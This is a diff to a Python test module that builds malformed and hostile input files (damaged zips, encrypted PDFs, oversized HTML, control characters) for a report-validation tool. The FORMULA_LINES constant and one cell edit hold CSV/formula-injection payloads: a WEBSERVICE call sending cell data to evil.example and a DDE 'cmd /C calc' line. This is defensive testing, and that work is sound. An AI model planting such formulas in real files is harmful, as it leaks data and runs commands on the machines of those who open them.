@@ -1,5 +1,8 @@
 """The hostile corpus of issue 14, generated (nothing large is committed): files a hostile or careless user could
-hand to ``check``, ``fill``, ``export`` or ``collect``, and structural tampers the validator must flag (S2).
+hand to ``check``, ``fill``, ``export`` or ``collect``, and structural tampers the validator must flag (S2); and
+(issue 19) the hostile published reports of :func:`hostile_reports` for ``import`` and ``check``: formula lines,
+control characters, junk digits, UTF-16 without BOM, encrypted PDF and Word, pages too deep or too large, a .doc
+LibreOffice cannot open.
 
 The bombs are streamed into the zip (``ZipFile.open(name, "w", force_zip64=True)``): a gigabyte of sheet XML is
 written in 1 MB pieces and compresses to a few MB, so generating one takes seconds and little memory.
@@ -364,7 +367,40 @@ def hostile_corpus(sample: Path, folder: Path, *, bombs: bool = True) -> list[Ca
     add("xlsm", _macro(sample, folder / "带宏.xlsm"), frozenset({0, 1, 2}))
     add("empty", _copy(DATA / "empty.xlsx", folder / "空文件.xlsx"), unreadable)
     add("truncated", _copy(DATA / "broken-truncated.xlsx", folder / "截断.xlsx"), unreadable)
+    # issue 19: a live formula in a narrative cell (S2.input); a part whose deflated data is damaged (zlib.error,
+    # which ZipFile.testzip lets through); 1e308 in every count cell (sums beyond a float)
+    narrative = parts[spec.NARRATIVE_SHEET]
+    add("formula-input", rewrite(sample, folder / "正文有公式.xlsx", {narrative: _replace_cell(
+        loc["s1.proactive"].a1, '<f>WEBSERVICE("http://evil.example/?d="&amp;B3)</f>')}), frozenset({1}), "S2.input")
+    add("crc-deflated", _deflate_damaged(sample, folder / "压缩数据损坏.xlsx", t3), unreadable)
+    counts = [k for k in spec.INPUT_KEYS if spec.DATA_CELLS[k].kind is spec.Kind.COUNT and loc[k].sheet == "表三"]
+    add("counts-1e308", rewrite(sample, folder / "件数1e308.xlsx", {t3: _chain(
+        [_replace_cell(loc[k].a1, "<v>1E+308</v>") for k in counts])}), frozenset({1}))
     return cases
+
+
+def _chain(edits: list[Callable[[bytes], bytes]]) -> Callable[[bytes], bytes]:
+    def edit(data: bytes) -> bytes:
+        for e in edits:
+            data = e(data)
+        return data
+    return edit
+
+
+def _deflate_damaged(src: Path, dst: Path, part: str) -> Path:
+    """``part`` deflated, 40 bytes early in its compressed data inverted: inflating it fails (zlib.error)
+    before any checksum is compared."""
+    shutil.copyfile(src, dst)
+    raw = bytearray(dst.read_bytes())
+    with zipfile.ZipFile(dst) as zf:
+        info = zf.getinfo(part)
+    assert info.compress_type == zipfile.ZIP_DEFLATED and info.compress_size > 400
+    name_len, extra_len = int.from_bytes(raw[info.header_offset + 26:info.header_offset + 28], "little"), \
+        int.from_bytes(raw[info.header_offset + 28:info.header_offset + 30], "little")
+    start = info.header_offset + 30 + name_len + extra_len + 100
+    raw[start:start + 40] = bytes(b ^ 0xFF for b in raw[start:start + 40])
+    dst.write_bytes(bytes(raw))
+    return dst
 
 
 def _copy(src: Path, dst: Path) -> Path:
@@ -387,6 +423,106 @@ def _all_formulas_to(text: str) -> Callable[[bytes], bytes]:
         assert n > 100, n
         return new.encode("utf-8")
     return edit
+
+
+# ---- hostile published reports (issue 19) --------------------------------------------------------------------------
+
+@dataclass(frozen=True)
+class ReportCase:
+    """One published report for ``import``/``check``: read (``refusal`` "") or refused with a message holding
+    ``refusal``; ``needs``: an external program it needs ("soffice")."""
+
+    name: str
+    path: Path
+    refusal: str = ""
+    needs: str = ""
+    note: str = ""
+
+
+#: a line a formula would start, for each character a spreadsheet takes as a formula's start
+FORMULA_LINES = ('=WEBSERVICE("http://evil.example/?d="&B3)', '=HYPERLINK("http://evil.example","点此")',
+                 "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)")
+
+
+def _minimal_pdf(objects: list[bytes], trailer: bytes = b"") -> bytes:
+    out = bytearray(b"%PDF-1.4\n")
+    offsets = []
+    for i, body in enumerate(objects, start=1):
+        offsets.append(len(out))
+        out += b"%d 0 obj\n" % i + body + b"\nendobj\n"
+    xref = len(out)
+    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
+    out += b"".join(b"%010d 00000 n \n" % o for o in offsets)
+    out += b"trailer\n<< /Size %d /Root 1 0 R " % (len(objects) + 1) + trailer + b">>\nstartxref\n%d\n%%%%EOF\n" % xref
+    return bytes(out)
+
+
+def encrypted_pdf() -> bytes:
+    """A one-page PDF under the standard security handler whose user password is not empty: no reader opens it
+    without the password."""
+    return _minimal_pdf([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+                         b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
+                         b"<< /Filter /Standard /V 1 /R 2 /O <" + b"11" * 32 + b"> /U <" + b"22" * 32 + b"> /P -4 >>"],
+                        b"/Encrypt 4 0 R /ID [<" + b"33" * 16 + b"> <" + b"33" * 16 + b">] ")
+
+
+def _html_page(lines: list[str]) -> str:
+    import html
+
+    return "<html><head><meta charset=\"utf-8\"></head><body>" + "".join(
+        f"<p>{html.escape(x)}</p>" for x in lines) + "</body></html>"
+
+
+def hostile_reports(report: str, folder: Path) -> list[ReportCase]:
+    """Every hostile published report of issue 19 in ``folder``, made from ``report`` (the text of a real report
+    in the flattened text form, tables as tab-indented cells)."""
+    folder.mkdir(parents=True, exist_ok=True)
+    cases: list[ReportCase] = []
+    lines = report.split("\n")
+
+    def write(name: str, content: str | bytes) -> Path:
+        p = folder / name
+        if isinstance(content, str):
+            p.write_text(content, encoding="utf-8")
+        else:
+            p.write_bytes(content)
+        return p
+
+    heads = ["一、总体情况\n", "（一）主动公开方面。", "（二）依申请公开方面。", "（三）政府信息管理方面。",
+             "（四）政府信息公开平台建设方面。"]
+    injected = report
+    for head, line in zip(heads, FORMULA_LINES, strict=True):
+        assert head in injected, head
+        injected = injected.replace(head, head + ("" if head.endswith("\n") else "\n") + line + "\n", 1)
+    cases.append(ReportCase("formula-lines", write("以等号开头的行.txt", injected)))
+    manual = report.replace("（一）主动公开方面。", "（一）主动公开方面。\x0b第二行\x0c第三行\x01\x1f", 1)
+    cases.append(ReportCase("vertical-tab", write("手动换行符.txt", manual)))
+    page = _html_page(lines).replace("（一）主动公开方面。", "（一）主动公开方面。&#11;第二行&#1;", 1)
+    cases.append(ReportCase("vertical-tab-html", write("手动换行符.html", page)))
+    first = next(i for i, x in enumerate(lines) if x.strip() == "一、本年新收政府信息公开申请数量")
+    for n in (400, 5000):
+        digits = list(lines)
+        digits[first + 1] = "\t" + "9" * n
+        cases.append(ReportCase(f"digits-{n}", write(f"{n}位数字.txt", "\n".join(digits))))
+    cases.append(ReportCase("utf16-no-bom", write("无BOM的UTF-16.txt", report.encode("utf-16-le"))))
+    cases.append(ReportCase("pdf-encrypted", write("加密.pdf", encrypted_pdf()), "已加密"))
+    # an Office file with an open password is an OLE file whatever it holds: it was called an old .doc misnamed
+    cases.append(ReportCase("docx-encrypted", _copy(DATA / "sample-encrypted.xlsx", folder / "加密.docx"), "已加密"))
+    half = len(lines) // 2
+    deep = _html_page(lines[:half]).replace("</body>", "<div>" * 300 + "".join(
+        f"<p>{x}</p>" for x in lines[half:]) + "</div>" * 300 + "</body>")
+    cases.append(ReportCase("html-deep", write("嵌套300层.html", deep), "嵌套超过"))
+    big = folder / "61MB网页.html"
+    with big.open("w", encoding="utf-8") as fh:  # a real page padded with a comment to just over the limit
+        fh.write(_html_page(lines).replace("<body>", "<body><!--" + "x" * (61 * MB) + "-->"))
+    cases.append(ReportCase("html-61mb", big, "不像一份年度报告"))
+    sparse = folder / "65MB网页.html"
+    with sparse.open("wb") as fh:  # beyond every file limit (sparse: no disk taken)
+        fh.truncate(65 * MB)
+    cases.append(ReportCase("html-65mb", sparse, "不像一份年度报告"))
+    junk = write("损坏的旧版Word.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4096))
+    cases.append(ReportCase("doc-unloadable", junk, "另存为”.docx", needs="soffice"))
+    return cases
 
 
 # ---- the tamper corpus -------------------------------------------------------------------------------------------
